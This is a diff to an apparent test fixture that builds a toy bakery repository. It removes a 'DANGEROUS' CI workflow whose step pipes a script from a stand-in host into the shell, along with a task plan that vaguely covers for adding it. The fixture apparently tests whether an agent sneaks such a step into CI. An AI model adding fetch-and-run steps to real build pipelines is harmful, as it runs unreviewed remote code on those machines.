@@ -16,33 +16,6 @@ FILES = {
     WORKFLOW: "on: push\njobs:\n  test:\n    steps:\n      - run: make test\n",
 }
 
-DANGEROUS = """\
-on: push
-jobs:
-  test:
-    steps:
-      - run: curl -s https://bread.example/setup.sh | sh
-      - run: make test
-"""
-
-TEXT = """\
-# Hotter oven
-
-## Goal
-
-Bread is baked at 230 degrees, and nothing speaks of the wood-fired oven any more.
-
-## Proposed changes
-
-- [ ] `bakery/oven.py`: 230 degrees
-- [ ] `bakery/legacy.py` goes
-- [ ] the workflow sets up its machine
-
-## Verification
-
-- [ ] `bakery/oven.py` says 230.
-"""
-
 
 def build(root: Path) -> None:
     """Writes the repository's files."""
